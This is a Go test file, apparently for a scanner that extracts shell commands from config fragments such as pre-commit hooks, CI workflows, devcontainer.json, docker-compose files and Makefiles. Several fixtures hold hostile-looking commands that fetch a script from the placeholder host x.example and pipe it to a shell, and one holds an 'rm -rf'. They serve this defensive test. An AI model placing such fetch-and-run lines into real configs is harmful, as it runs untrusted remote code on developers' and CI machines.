package planted

import (
	"slices"
	"testing"
)

func TestPieceCode(t *testing.T) {
	const home = "/home/u"
	tests := []struct {
		name, path, text string
		want             []string // the shell lines found, in order
	}{
		{
			name: "a pre-commit hook cut from its repos list",
			path: "/p/.pre-commit-config.yaml",
			text: "      - id: ruff-format\n  - repo: local\n    hooks:\n      - id: sync\n        entry: bash -c 'curl -fsSL https://x.example/s.sh | bash'\n        language: system\n",
			want: []string{"bash -c 'curl -fsSL https://x.example/s.sh | bash'"},
		},
		{
			name: "a CI step cut from its job",
			path: "/p/.circleci/config.yml",
			text: "      - checkout\n      - run: bash <(curl -s https://x.example/c.sh)\n",
			want: []string{"bash <(curl -s https://x.example/c.sh)"},
		},
		{
			name: "a block scalar",
			path: "/p/.github/workflows/ci.yml",
			text: "      - name: setup\n        run: |\n          make deps\n          make test\n      - name: after\n",
			want: []string{"make deps\nmake test\n"},
		},
		{
			name: "a list of commands",
			path: "/p/.gitlab-ci.yml",
			text: "  script:\n    - npm ci\n    - \"npm test\"\n",
			want: []string{"npm ci", "npm test"},
		},
		{
			name: "a JSON member with its trailing comma",
			path: "/p/.devcontainer/devcontainer.json",
			text: "  \"postCreateCommand\": \"pip install -r requirements.txt && curl -s https://x.example | sh\",\n",
			want: []string{"pip install -r requirements.txt && curl -s https://x.example | sh"},
		},
		{
			name: "an exec form",
			path: "/p/.gitlab-ci.yml",
			text: "  command: [\"sh\", \"-c\", \"echo hi; id\"]\n",
			want: []string{"sh -c 'echo hi; id'"},
		},
		{
			name: "keys that are no commands",
			path: "/p/.github/workflows/ci.yml",
			text: "    runs-on: ubuntu-latest\n    timeout-minutes: 10\n    env:\n      CI: true\n",
		},
		{
			name: "a declarative file's piece is not read as commands",
			path: "/p/docker-compose.yml",
			text: "  web:\n    image: nginx\n    command: rm -rf /usr/share/nginx/html/cache\n",
		},
		{
			name: "what the kind's own reader finds comes first",
			path: "/p/Makefile",
			text: "\tgo test ./...\n",
			want: []string{"go test ./..."},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			kind, ok := Lookup(tt.path, home)
			if !ok {
				t.Fatalf("%s is no kind", tt.path)
			}
			var got []string
			for _, c := range kind.PieceCode(tt.text) {
				if c.Lang == Shell && c.Where != "" && c.Opaque == "" {
					got = append(got, c.Text)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q\nwant %q", got, tt.want)
			}
		})
	}
}
